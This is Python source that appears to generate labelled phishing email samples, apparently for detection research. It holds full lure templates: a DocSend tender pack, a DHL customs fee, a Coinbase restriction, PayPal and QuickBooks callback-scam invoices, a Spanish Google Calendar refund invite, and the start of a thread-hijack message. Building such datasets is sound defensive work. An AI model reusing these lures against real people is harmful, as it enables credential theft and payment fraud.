<tr><td style="padding:0 32px;font-size:14px;line-height:21px;color:#546e7a"><i>&ldquo;Hello, as discussed please find the tender pack for the Q3 lanes. Access requires e-mail verification with your company account. Submission closes Friday 17:00 CET.&rdquo;</i></td></tr>
<tr><td style="padding:24px 32px"><a href="{link}" style="background:#2ea3f2;color:#fff;padding:12px 28px;text-decoration:none;border-radius:4px;font-weight:bold">View document</a></td></tr>
<tr><td style="padding:0 32px 26px;font-size:11px;color:#90a4ae">Powered by DocSend &middot; Dropbox, Inc.</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('docsend.com', 's1', 'p19', t, h='content-type:from:mime-version:reply-to:subject:to:cc:content-type:from:subject:to')}
Received: by filterdrecv-5d4b9b8f9c-lq7wz with SMTP id filterdrecv-5d4b9b8f9c-lq7wz-1-66CDDC0B-21
\t2024-08-27 14:02:19.331208114 +0000 UTC m=+2214471.005102831
Received: from docsend.com (unknown)
\tby geopod-ismtpd-22 (SG) with ESMTP
\tid {rnd('p19sg', 22, ALNUM)}
\tfor <{rcpt}>;
\tTue, 27 Aug 2024 14:02:19.215 +0000 (UTC)
Date: Tue, 27 Aug 2024 14:02:19 +0000 (UTC)
From: "Priya Nair (via DocSend)" <no-reply@docsend.com>
Reply-To: Priya Nair <priya.nair@gulfline-cargo.com>
To: {rcpt}
Message-ID: <66cddc0b{hexs('p19mid', 16)}_{digits('p19mid2', 6)}@docsend-worker-{digits('p19w', 2)}.mail>
Subject: Priya Nair shared "Tender Documentation - Q3 Freight Lanes (EU-GCC)" with you
Mime-Version: 1.0
X-SG-EID: u001.{rnd('p19eid', 100)}
X-Entity-ID: u001.{rnd('p19ent', 22)}==
"""
    emit("phishing", "docsend-tender-pack-email-verification", "genuine DocSend share notice (auth passes) from an unknown cargo company; 'verify with your company account' to read a tender pack that links on to a credential page",
         top, sender, alt("--==_mimepart_" + hexs("p19b", 12) + "_" + digits("p19b2", 6), text, html), bottom)


def p_hubspot_dhl_de() -> None:
    t = when("2024-11-26 12:17:45")
    rcpt = "k.brandstetter@gmx.de"
    mf = f"1axbtvtq{rnd('p20mf', 12, LOWNUM)}@bf03x.hubspotemail.net"
    click = ("https://d2Uq5b04.eu1.hubspotlinks.com/Ctc/RI+113/d2Uq5b04/VWqHCH" + rnd("p20c", 90, ALNUM + "-_"))
    top = gmx_in(rcpt, t, "143.244.80.116", "bf03x.hubspotemail.net", mf, "pass",
                 ("buero-zeitwerk.de", "pass"), "pass", "buero-zeitwerk.de", "p20")
    text = f"""DHL Paket

Ihre Sendung JJD000390017488102 konnte nicht zugestellt werden.

Für die Sendung fallen noch Zollgebühren in Höhe von 1,99 EUR an. Bitte
begleichen Sie den Betrag innerhalb von 48 Stunden, andernfalls wird das
Paket an den Absender zurückgeschickt.

Zustellung planen: {click}

Ihr DHL Paket Team

Büro Zeitwerk GmbH, Kaiserstraße 12, 60311 Frankfurt am Main
Abmelden: https://hs-14229310.s.hubspotemail.net/hs/manage-preferences/unsubscribe?data={rnd('p20u', 60, ALNUM)}
"""
    html = f"""<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#f3f3f3;font-family:Frutiger,Arial,Helvetica,sans-serif;color:#333">
<div style="display:none;max-height:0;overflow:hidden">Ihre Sendung wartet auf Zustellung – bitte Gebühr begleichen.</div>
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#ffcc00;padding:18px 28px"><span style="color:#d40511;font-size:30px;font-weight:900;font-style:italic">DHL</span></td></tr>
<tr><td style="padding:26px 28px 6px;font-size:22px;font-weight:bold">Ihre Sendung konnte nicht zugestellt werden</td></tr>
<tr><td style="padding:8px 28px;font-size:15px;line-height:22px">Sendungsnummer: <b>JJD000390017488102</b><br><br>Für die Sendung fallen noch Zollgebühren in Höhe von <b>1,99&nbsp;EUR</b> an. Bitte begleichen Sie den Betrag innerhalb von 48&nbsp;Stunden, andernfalls wird das Paket an den Absender zurückgeschickt.</td></tr>
<tr><td style="padding:20px 28px"><a href="{click}" style="background:#d40511;color:#fff;padding:12px 30px;text-decoration:none;font-weight:bold">Zustellung planen</a></td></tr>
<tr><td style="padding:10px 28px 26px;font-size:14px">Ihr DHL Paket Team</td></tr>
<tr><td style="padding:16px 28px;font-size:11px;color:#888;background:#fafafa">Büro Zeitwerk GmbH, Kaiserstraße 12, 60311 Frankfurt am Main<br><a href="https://hs-14229310.s.hubspotemail.net/hs/manage-preferences/unsubscribe?data={rnd('p20u', 60, ALNUM)}" style="color:#888">Abmelden</a> &middot; <a href="https://hs-14229310.s.hubspotemail.net/hs/manage-preferences/summary?data={rnd('p20u2', 60, ALNUM)}" style="color:#888">Einstellungen verwalten</a></td></tr>
</table></td></tr></table>
<img src="https://d2Uq5b04.eu1.hubspotlinks.com/Cto/RI+113/d2Uq5b04/R5R8b{rnd('p20o', 60, ALNUM)}" width="1" height="1" alt="" style="display:none!important">
</body></html>
"""
    sender = f"""\
{dkim('buero-zeitwerk.de', 'hs1-14229310', 'p20', t, h='Content-Type:Content-Transfer-Encoding:MIME-Version:Subject:To:From:Date:Message-ID:List-Unsubscribe:List-Unsubscribe-Post')}
{dkim('hubspotemail.net', 'hs1', 'p20h', t, h='Content-Type:Content-Transfer-Encoding:MIME-Version:Subject:To:From:Date:Message-ID:List-Unsubscribe:List-Unsubscribe-Post')}
Received: by 172.16.248.37 with SMTP id {rnd('p20sm', 12, LOWNUM)}mrr{digits('p20sm2', 6)}ltb;
        {rfc(t, 'America/New_York', seconds=-1)}
MIME-Version: 1.0
Subject: =?utf-8?Q?Zustellung_nicht_m=C3=B6glich_=E2=80=93_Zollgeb=C3=BChr_1=2C99_=E2=82=AC_offen?=
To: {rcpt}
From: "DHL Paket" <info@buero-zeitwerk.de>
Date: {rfc(t)}
Message-ID: <{digits('p20m', 13)}.{hexs('p20m2', 8)}@bf03x.hubspotemail.net>
List-Unsubscribe: <mailto:1axbtvtq{rnd('p20mf', 12, LOWNUM)}-unsubscribe@bf03x.hubspotemail.net>, <https://hs-14229310.s.hubspotemail.net/hs/manage-preferences/unsubscribe-all?data={rnd('p20u3', 40, ALNUM)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-HubSpot-MID: {digits('p20hm', 12)}
X-Report-Abuse-To: abuse@hubspot.com
"""
    emit("phishing", "dhl-zollgebuehr-hubspot-abused-account-de", "DHL customs-fee lure sent through a small firm's HubSpot account (auth passes for an unrelated domain); the destination is hidden behind hubspotlinks.com tracking",
         top, sender, alt("----=_Part_" + digits("p20b", 7) + "_" + digits("p20b2", 9) + ".1732623465099", text, html))


def p_mailchimp_coinbase() -> None:
    t = when("2023-08-17 03:55:20")
    rcpt = "ben.okafor.dev@gmail.com"
    u, lid = hexs("p21u", 25), hexs("p21id", 10)
    mf = f"bounce-mc.us21_{digits('p21mf', 8)}.{digits('p21mf2', 7)}-{hexs('p21mf3', 10)}@mail251.atl121.mcsv.net"
    click = f"https://sweetcrumbbakery.us21.list-manage.com/track/click?u={u}&id={lid}&e={hexs('p21e', 10)}"
    top = gmail_in(rcpt, t, "198.2.185.251", "mail251.atl121.mcsv.net", mf, "pass",
                   [("sweetcrumbbakery.com", "k2", "pass"), ("mcsv.net", "k3", "pass")],
                   ("pass", "p=NONE", "sp=NONE", "NONE", "sweetcrumbbakery.com"), "p21")
    text = f"""Coinbase

Your account has been temporarily restricted

We detected a sign-in attempt from a new device (Lagos, NG) and placed a
temporary hold on sends and withdrawals to protect your assets.

To restore full access, verify your identity within 12 hours:
{click}

If you don't complete verification, your account will remain restricted.

Coinbase Support

Copyright (C) 2023 Sweet Crumb Bakery. All rights reserved.
You are receiving this email because you opted in via our website.
Unsubscribe: https://sweetcrumbbakery.us21.list-manage.com/unsubscribe?u={u}&id={hexs('p21l', 10)}&e={hexs('p21e', 10)}&c={hexs('p21c', 10)}
"""
    html = f"""<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>*|MC:SUBJECT|*</title></head>
<body style="height:100%;margin:0;padding:0;width:100%;background-color:#FAFAFA">
<span class="mcnPreviewText" style="display:none;font-size:0;line-height:0;max-height:0;max-width:0;opacity:0;overflow:hidden;visibility:hidden;mso-hide:all">Action needed: verify your identity to lift the restriction</span>
<center><table align="center" border="0" cellpadding="0" cellspacing="0" height="100%" width="100%" id="bodyTable"><tr><td align="center" valign="top" id="bodyCell" style="padding:10px">
<table border="0" cellpadding="0" cellspacing="0" width="600" style="background:#ffffff">
<tr><td style="padding:28px 36px 8px"><span style="color:#0052ff;font-size:28px;font-weight:bold;font-family:Arial">coinbase</span></td></tr>
<tr><td style="padding:10px 36px;font-family:Arial;font-size:22px;color:#0a0b0d;font-weight:bold">Your account has been temporarily restricted</td></tr>
<tr><td style="padding:6px 36px;font-family:Arial;font-size:15px;color:#5b616e;line-height:23px">We detected a sign-in attempt from a new device (Lagos, NG) and placed a temporary hold on sends and withdrawals to protect your assets.<br><br>To restore full access, verify your identity within <b>12 hours</b>.</td></tr>
<tr><td style="padding:22px 36px"><a href="{click}" target="_blank" style="background:#0052ff;color:#ffffff;padding:14px 32px;border-radius:24px;font-family:Arial;font-weight:bold;text-decoration:none">Verify identity</a></td></tr>
<tr><td style="padding:0 36px 26px;font-family:Arial;font-size:13px;color:#5b616e">If you don't complete verification, your account will remain restricted.<br><br>Coinbase Support</td></tr>
</table>
<table border="0" cellpadding="0" cellspacing="0" width="600"><tr><td style="padding:18px;font-family:Helvetica;font-size:12px;color:#656565;text-align:center"><em>Copyright &copy; 2023 Sweet Crumb Bakery, All rights reserved.</em><br>You are receiving this email because you opted in via our website.<br><br><a href="https://sweetcrumbbakery.us21.list-manage.com/profile?u={u}&amp;id={hexs('p21l', 10)}&amp;e={hexs('p21e', 10)}&amp;c={hexs('p21c', 10)}" style="color:#656565">update your preferences</a> or <a href="https://sweetcrumbbakery.us21.list-manage.com/unsubscribe?u={u}&amp;id={hexs('p21l', 10)}&amp;e={hexs('p21e', 10)}&amp;c={hexs('p21c', 10)}" style="color:#656565">unsubscribe from this list</a><br><br><a href="http://eepurl.com/i{rnd('p21ee', 5, ALNUM)}" title="Mailchimp - email marketing made easy and fun"><img src="https://cdn-images.mailchimp.com/monkey_rewards/intuit-mc-rewards-text-dark.png" width="139" alt="Intuit Mailchimp"></a></td></tr></table>
</td></tr></table></center>
<img src="https://sweetcrumbbakery.us21.list-manage.com/track/open.php?u={u}&id={hexs('p21c', 10)}&e={hexs('p21e', 10)}" height="1" width="1" alt="">
</body></html>
"""
    sender = f"""\
{dkim('sweetcrumbbakery.com', 'k2', 'p21', t, h='Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC:Date:Subject:From')}
{dkim('mcsv.net', 'k3', 'p21m', t, h='Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC:Date:Subject:From')}
Received: from localhost (localhost [127.0.0.1])
\tby mail251.atl121.mcsv.net (Mailchimp) with ESMTP id 4RR8Y816xqzNFYx
\tfor <{rcpt}>; {rfc(t, seconds=-1)}
Subject: Action required: Your Coinbase account has been restricted
From: Coinbase Support <info@sweetcrumbbakery.com>
Reply-To: Coinbase Support <info@sweetcrumbbakery.com>
To: <{rcpt}>
Date: {rfc(t)}
Message-ID: <{hexs('p21mid', 25)}.{hexs('p21mid2', 8)}.{hexs('p21mid3', 10)}@mail251.atl121.mcdlv.net>
X-Mailer: Mailchimp Mailer - **CID{hexs('p21c', 10)}{hexs('p21e', 10)}**
X-Campaign: mailchimp{u}.{hexs('p21c', 10)}
X-campaignid: mailchimp{u}.{hexs('p21c', 10)}
X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={hexs('p21c', 10)}&e={hexs('p21e', 10)}
X-MC-User: {u}
Feedback-ID: {digits('p21fb', 8)}:{digits('p21fb2', 8)}.{digits('p21fb3', 7)}:us21:mc
List-ID: {u}mc list <{u}.{digits('p21li', 6)}.list-id.mcsv.net>
X-Accounttype: ff
List-Unsubscribe: <https://sweetcrumbbakery.us21.list-manage.com/unsubscribe?u={u}&id={hexs('p21l', 10)}&e={hexs('p21e', 10)}&c={hexs('p21c', 10)}>, <mailto:unsubscribe-mc.us21_{u}.{hexs('p21c', 10)}-{hexs('p21e', 10)}@unsubscribe.mailchimpapp.net?subject=unsubscribe>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
x-mcda: FALSE
MIME-Version: 1.0
"""
    emit("phishing", "coinbase-restricted-mailchimp-hijacked-bakery", "Coinbase restriction lure sent from a bakery's hijacked Mailchimp account (DKIM/DMARC pass for the bakery); link hidden behind list-manage.com click tracking",
         top, sender, alt("_----------=_MCPart_" + digits("p21b", 9), text, html))


def p_paypal_invoice_callback() -> None:
    t = when("2023-12-04 18:26:07")
    rcpt = "daniel.whitford82@outlook.com"
    inv = "INV2-" + "-".join(rnd("p22i" + str(k), 4, UPALNUM) for k in range(4))
    link = f"https://www.paypal.com/invoice/p/#{inv.replace('-', '')}"
    mf = "service@paypal.com"
    top, bottom = m365_in(rcpt, t, "173.0.84.226", "mx2.slc.paypal.com", mf, "pass",
                          ("paypal.com", "pass"), ("pass", "none"), "paypal.com", ("pass", "100"), "p22",
                          ctry="US", lang="en", consumer=True, europe=False, bcl=1)
    note = ("Your PayPal account has been charged $599.99 for a Bitcoin (BTC) purchase. This will appear on your "
            "statement within 24 hours. If you did not authorize this transaction, call PayPal Billing Support "
            "immediately at +1 (888) 704-1963 to cancel and receive a full refund.")
    text = f"""Billing Department sent you an invoice for $599.99 USD

Due on receipt

Invoice number: 0042
Amount requested: $599.99 USD

Note from seller:
{note}

View and Pay Invoice: {link}

Don't recognize this invoice? Don't pay it. Report it to PayPal.

Copyright © 1999-2023 PayPal, Inc. All rights reserved. PayPal is located at
2211 N. First St., San Jose, CA 95131.
PayPal PPC001697:1.1:{hexs('p22pp', 12)}
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;background:#f2f2f2;font-family:'PayPal Sans',Helvetica,Arial,sans-serif;color:#2c2e2f">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:26px 40px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="44" alt="PayPal"></td></tr>
<tr><td style="padding:0 40px;font-size:26px;font-weight:bold">Billing Department sent you an invoice for $599.99&nbsp;USD</td></tr>
<tr><td style="padding:14px 40px;font-size:15px;color:#6c7378">Due on receipt</td></tr>
<tr><td style="padding:6px 40px"><table width="100%" cellpadding="6" style="font-size:15px;border-top:1px solid #eaeced;border-bottom:1px solid #eaeced"><tr><td>Invoice number</td><td align="right">0042</td></tr><tr><td>Amount requested</td><td align="right"><b>$599.99 USD</b></td></tr></table></td></tr>
<tr><td style="padding:18px 40px 4px;font-size:15px;font-weight:bold">Note from seller</td></tr>
<tr><td style="padding:0 40px 18px;font-size:15px;line-height:22px">{htmllib.escape(note)}</td></tr>
<tr><td align="center" style="padding:10px 40px 26px"><a href="{link}" style="background:#003087;color:#fff;padding:12px 40px;border-radius:24px;text-decoration:none;font-weight:bold">View and Pay Invoice</a></td></tr>
<tr><td style="padding:0 40px 20px;font-size:13px;color:#6c7378">Don't recognize this invoice? Don't pay it. <a href="https://www.paypal.com/invoice/p/#{inv.replace('-', '')}?report=1" style="color:#0070e0">Report it to PayPal</a>.</td></tr>
<tr><td style="padding:20px 40px;background:#f7f9fa;font-size:11px;color:#6c7378">Copyright &copy; 1999-2023 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.<br>PayPal PPC001697:1.1:{hexs('p22pp', 12)}</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('paypal.com', 'pp-dkim1', 'p22', t, h='Content-Type:Date:PP-Correlation-Id:Subject:To:From:Message-ID:MIME-Version')}
Received: from ccg01mail05.slc.paypalcorp.com (unknown [10.74.2.213])
\tby mx2.slc.paypal.com (Postfix) with ESMTP id 4SkVz73Qkqz1Tl
\tfor <{rcpt}>; {rfc(t, 'America/Los_Angeles', seconds=-1)}
Content-Transfer-Encoding: quoted-printable
Date: {rfc(t, 'America/Los_Angeles', seconds=-2)}
PP-Correlation-Id: {hexs('p22cid', 13)}
Subject: Invoice from Billing Department (0042)
To: {rcpt}
From: "service@paypal.com" <service@paypal.com>
Message-ID: <{hexs('p22mid', 13)}.{digits('p22mid2', 5)}@paypal.com>
X-MaxCode-Template: PPX001206
X-Email-Type-Id: PPX001206
MIME-Version: 1.0
"""
    sender = sender.replace("Content-Transfer-Encoding: quoted-printable\n", "")
    emit("phishing", "paypal-invoice-note-callback-number", "genuine PayPal invoice (auth passes for paypal.com); the seller's note claims a $599.99 Bitcoin charge and gives a phone number to 'cancel' (callback scam)",
         top, sender, alt("----=_Part_" + digits("p22b", 6) + "_" + digits("p22b2", 9) + ".1701714367123", text, html), bottom)


def p_quickbooks_norton() -> None:
    t = when("2024-01-23 15:48:32")
    rcpt = "emma.castellano@gmail.com"
    mf = f"quickbooks@notification.intuit.com"
    link = "https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-" + hexs("p23l", 64) + "?locale=EN_US&cta=viewinvoicenow"
    top = gmail_in(rcpt, t, "206.108.40.17", "mail-in17.notification.intuit.com", mf, "pass",
                   [("notification.intuit.com", "s2048", "pass")],
                   ("pass", "p=REJECT", "sp=REJECT", "NONE", "notification.intuit.com"), "p23")
    phone = "+1 (844) 610-2873"
    text = f"""Norton LifeLock Billing

INVOICE 10245 DETAILS
Due 01/23/2024
$389.99

Dear customer,

Your Norton 360 Deluxe (5 devices, 3 years) subscription has been renewed
automatically and $389.99 will be charged to your account within 24 hours.

If you did not authorize this renewal or wish to cancel and get a refund,
please contact our billing desk at {phone} (Mon-Sun, 24/7).

Review and pay: {link}

Norton LifeLock Billing
billing.nortonlife@gmail.com

Powered by QuickBooks
© 2024 Intuit Inc. All rights reserved. Privacy | Security | Terms of Service
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#eceef1;font-family:Avenir Next,Helvetica,Arial,sans-serif;color:#393a3d">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:24px 32px;font-size:20px;font-weight:bold">Norton LifeLock Billing</td></tr>
<tr><td align="center" style="padding:10px 32px;background:#f4f5f8"><div style="font-size:12px;letter-spacing:1px;color:#6b6c72">INVOICE 10245 DETAILS</div><div style="font-size:13px;color:#6b6c72">Due 01/23/2024</div><div style="font-size:34px;font-weight:bold;padding:6px 0">$389.99</div>
<a href="{link}" style="display:inline-block;background:#2ca01c;color:#fff;padding:11px 36px;border-radius:4px;text-decoration:none;font-weight:bold;margin:8px 0 14px">Review and pay</a></td></tr>
<tr><td style="padding:22px 32px;font-size:14px;line-height:21px">Dear customer,<br><br>Your Norton 360 Deluxe (5 devices, 3 years) subscription has been renewed automatically and $389.99 will be charged to your account within 24 hours.<br><br>If you did not authorize this renewal or wish to cancel and get a refund, please contact our billing desk at <b>{phone}</b> (Mon-Sun, 24/7).<br><br>Norton LifeLock Billing<br>billing.nortonlife@gmail.com</td></tr>
<tr><td style="padding:18px 32px;font-size:11px;color:#8d9096;border-top:1px solid #e3e5e8">Powered by <b>QuickBooks</b><br>&copy; 2024 Intuit Inc. All rights reserved. <a href="https://www.intuit.com/privacy/" style="color:#8d9096">Privacy</a> | <a href="https://security.intuit.com/" style="color:#8d9096">Security</a> | <a href="https://quickbooks.intuit.com/legal/" style="color:#8d9096">Terms of Service</a></td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('notification.intuit.com', 's2048', 'p23', t, h='Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type')}
Received: from sbgqbo-mta-{digits('p23h', 2)}.ie.intuit.net (unknown [10.133.40.{digits('p23o', 2)}])
\tby mail-in17.notification.intuit.com (Postfix) with ESMTP id 4TKGb81Mxsz5Hd
\tfor <{rcpt}>; {rfc(t, 'America/Los_Angeles', seconds=-1)}
Date: {rfc(t, 'America/Los_Angeles', seconds=-2)}
From: Norton LifeLock Billing <quickbooks@notification.intuit.com>
Reply-To: billing.nortonlife@gmail.com
To: {rcpt}
Message-ID: <{digits('p23m', 9)}.{digits('p23m2', 6)}.{int(t.timestamp())}{digits('p23m3', 3)}@sbgqbo-mta-{digits('p23h', 2)}>
Subject: Invoice 10245 from Norton LifeLock Billing
MIME-Version: 1.0
X-Intuit-Product: QBO
"""
    emit("phishing", "quickbooks-invoice-norton-renewal-callback", "genuine QuickBooks invoice (auth passes for notification.intuit.com) from a 'Norton LifeLock Billing' account; renewal charge with a phone number to cancel, Gmail Reply-To",
         top, sender, alt("----=_Part_" + digits("p23b", 7) + "_" + digits("p23b2", 9) + ".1706024912123", text, html))


def p_google_calendar_invite_es() -> None:
    t = when("2024-03-12 20:06:41")
    rcpt = "carlos.mtz.reyes@gmail.com"
    org = "reembolsos.mx.2024@gmail.com"
    link = "https://reembolso-mx-2024.web.app/?id=" + digits("p24id", 8)
    uid = rnd("p24uid", 26, LOWNUM) + "@google.com"
    title = "💰 Tienes un reembolso pendiente de $4,250.00 MXN"
    desc = ("Estimado cliente:\n\nSe ha aprobado un reembolso a su favor por $4,250.00 MXN. Para recibir el depósito "
            "confirme sus datos bancarios en el siguiente enlace antes de 48 horas:\n\n" + link +
            "\n\nSi no confirma, el reembolso será cancelado.")
    ics = ics_fold(f"""BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
CALSCALE:GREGORIAN
METHOD:REQUEST
BEGIN:VEVENT
DTSTART:20240314T160000Z
DTEND:20240314T163000Z
DTSTAMP:20240312T200641Z
ORGANIZER;CN=reembolsos.mx.2024@gmail.com:mailto:{org}
UID:{uid}
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=
 TRUE;CN={rcpt};X-NUM-GUESTS=0:mailto:{rcpt}
X-MICROSOFT-CDO-OWNERAPPTID:{digits('p24oa', 10)}
CREATED:20240312T200640Z
DESCRIPTION:{ics_text(desc)}
LAST-MODIFIED:20240312T200640Z
LOCATION:
SEQUENCE:0
STATUS:CONFIRMED
SUMMARY:{ics_text(title)}
TRANSP:OPAQUE
END:VEVENT
END:VCALENDAR
""")
    mf = f"3{rnd('p24mf', 20, LOWNUM)}@calendar-server.bounces.google.com"
    top = gmail_in(rcpt, t, "209.85.220.69", "mail-sor-f69.google.com", mf, "pass",
                   [("google.com", "20230601", "pass"), ("gmail.com", "20230601", "pass")],
                   ("pass", "p=NONE", "sp=QUARANTINE", "NONE", "gmail.com"), "p24", google_sender=True)
    evlink = "https://calendar.google.com/calendar/event?action=VIEW&eid=" + rnd("p24eid", 80, ALNUM) + "&tok=" + rnd("p24tok", 60, ALNUM) + "&ctz=America%2FMexico_City&hl=es&es=0"
    text = f"""{title}
jueves, 14 de marzo de 2024 · 10:00 – 10:30 (hora estándar central)

{desc}

Organizador: {org}
Invitados: {rcpt}

Ver todos los detalles del evento: {evlink}

Invitación de Google Calendar
Estás recibiendo este correo electrónico porque eres un invitado del evento.
"""
    html = f"""<span itemscope itemtype="http://schema.org/InformAction"><span style="display:none" itemprop="about" itemscope itemtype="http://schema.org/Person"><meta itemprop="description" content="Invitación de {org}"></span></span>
<table cellspacing="0" cellpadding="0" border="0" style="width:100%;max-width:600px;font-family:Roboto,Helvetica,Arial,sans-serif;color:#3c4043">
<tr><td style="padding:24px 0 8px;font-size:22px">{htmllib.escape(title)}</td></tr>
<tr><td style="font-size:14px;padding-bottom:16px">jueves, 14 de marzo de 2024 &middot; 10:00 &ndash; 10:30 (hora estándar central)</td></tr>
<tr><td style="font-size:14px;line-height:20px;padding-bottom:16px">Estimado cliente:<br><br>Se ha aprobado un reembolso a su favor por $4,250.00 MXN. Para recibir el depósito confirme sus datos bancarios en el siguiente enlace antes de 48 horas:<br><br><a href="https://www.google.com/url?q={htmllib.escape(link)}&amp;sa=D&amp;source=calendar&amp;usd=2&amp;usg={rnd('p24usg', 28, ALNUM)}" target="_blank">{link}</a><br><br>Si no confirma, el reembolso será cancelado.</td></tr>
<tr><td style="font-size:14px;padding-bottom:16px"><b>Organizador</b><br>{org}<br><br><b>Invitados</b><br>{rcpt}</td></tr>
<tr><td style="padding-bottom:16px"><a href="{htmllib.escape(evlink)}" style="color:#1a73e8;font-size:14px">Ver todos los detalles del evento</a></td></tr>
<tr><td style="font-size:12px;color:#70757a;border-top:1px solid #dadce0;padding-top:12px">Invitación de Google Calendar<br>Estás recibiendo este correo electrónico porque eres un invitado del evento.</td></tr>
</table>
"""
    sender = f"""\
{dkim('google.com', '20230601', 'p24g', t, h='mime-version:reply-to:sender:auto-submitted:message-id:date:subject:from:to')}
{dkim('gmail.com', '20230601', 'p24m', t, h='mime-version:reply-to:sender:auto-submitted:message-id:date:subject:from:to')}
X-Google-Smtp-Source: AGHT+IF{rnd('p24gss', 90)}
MIME-Version: 1.0
X-Received: by 2002:a05:6902:{hexs('p24x1', 4)}:b0:{hexs('p24x2', 3)}:{hexs('p24x3', 4)}:{hexs('p24x4', 4)} with SMTP id {rnd('p24x5', 28, LOWNUM)}.{digits('p24x6', 2)}.{int(t.timestamp())}{digits('p24x7', 3)}; {rfc(t, 'America/Los_Angeles', seconds=-1)}
Reply-To: {org}
Sender: Google Calendar <calendar-notification@google.com>
Auto-Submitted: auto-generated
Message-ID: <calendar-{guid('p24mid')}@google.com>
Date: {rfc(t)}
Subject: =?UTF-8?Q?Invitaci=C3=B3n=3A_=F0=9F=92=B0_Tienes_un_reembolso_pendiente_de_=244=2C?=
 =?UTF-8?Q?250=2E00_MXN_=40_jue_14_mar_2024_10am_-_10=3A30am_=28hora_est=C3=A1nda?=
 =?UTF-8?Q?r_central=29_=28{rcpt.replace('@', '=40').replace('.', '=2E')}=29?=
From: {org}
To: {rcpt}
"""
    node = mixed(b_gmail("p24b"),
                 Multi("alternative", b_gmail("p24a"), [
                     txt(text), htm(html),
                     Leaf("text/calendar", ics.encode(), "base64", '; charset="UTF-8"; method=REQUEST')]),
                 Leaf("application/ics", ics.encode(), "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"'))
    emit("phishing", "google-calendar-invite-reembolso-webapp-es", "genuine Google Calendar invitation (auth passes for google.com/gmail.com) pushed by a stranger; the 'pending refund' link to web.app is in the event description",
         top, sender, node)


# ==========================================================================
# PHISHING 3: thread hijacking and link-less BEC


VDV_EARLIER = [
    ("Nolwenn Berthou", "nolwenn.berthou@kerlann-industries.fr", "2025-04-14 08:12:00",
     "Hi Hendrik,\n\nCould you confirm the delivery schedule for PO 4500231187 (12 pallets of\n"
     "corrugated trays, ref. VT-600-K)? We need them in Rennes before 25 April.\n\nThanks,\nNolwenn"),
    ("Hendrik Maas", "h.maas@vandervelde-packaging.nl", "2025-04-14 13:40:00",
     "Hi Nolwenn,\n\nNoted. Production is planned for week 16, loading Tuesday 22/04 from\n"
     "Tilburg, ETA Rennes Thursday 24/04. I'll send the updated order confirmation\nand statement once we have the slot.\n\n"
     "Kind regards,\nHendrik Maas\nSales Support | Van der Velde Packaging B.V."),
]


def quote_outlook(entries, lang="en") -> str:
    """Earlier messages quoted below an Outlook reply (text form)."""
    labels = {"en": ("From", "Sent", "To", "Subject"), "de": ("Von", "Gesendet", "An", "Betreff"),
              "fr": ("De", "Envoyé", "À", "Objet")}[lang]
    out = []
    for name, addr, when_, body, to, subject in entries:
        out.append("________________________________")
        out.append(f"{labels[0]}: {name} <{addr}>")
        out.append(f"{labels[1]}: {when_}")
        out.append(f"{labels[2]}: {to}")
        out.append(f"{labels[3]}: {subject}")
        out.append("")
        out.append(body)
        out.append("")
    return "\n".join(out)


def p_thread_hijack_link() -> None:
    t = when("2025-04-16 06:03:12")
    rcpt = "nolwenn.berthou@kerlann-industries.fr"
    frm = "h.maas@vandervelde-packaging.nl"
    link = "https://vdv-docs.pages.dev/statement/?r=" + base64.b64encode(rcpt.encode()).decode()
    subject = "RE: PO 4500231187 - delivery schedule"
    quoted = quote_outlook([
        ("Hendrik Maas", frm, "Monday, April 14, 2025 3:40 PM", VDV_EARLIER[1][3],
         "Nolwenn Berthou <nolwenn.berthou@kerlann-industries.fr>", "RE: PO 4500231187 - delivery schedule"),
        ("Nolwenn Berthou", VDV_EARLIER[0][1], "Monday, April 14, 2025 10:12 AM", VDV_EARLIER[0][3],
         "Hendrik Maas <h.maas@vandervelde-packaging.nl>", "PO 4500231187 - delivery schedule"),
    ])
    top_text = f"""Hi Nolwenn,

As discussed, please find the updated order confirmation and the statement
of account for PO 4500231187. Because of the file size I have shared them
through our secure document portal:

{link}

Please review today so we can confirm the loading slot for Tuesday.

Kind regards,
Hendrik Maas
Sales Support | Van der Velde Packaging B.V.
"""
    text = top_text + "\n" + quoted
    html_top = outlook_html(top_text, "EN-US").replace(
        htmllib.escape(link), f'<a href="{link}">Order confirmation &amp; statement - PO 4500231187.pdf</a>')
    html = html_top.replace("</div>\n</body>", '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">'
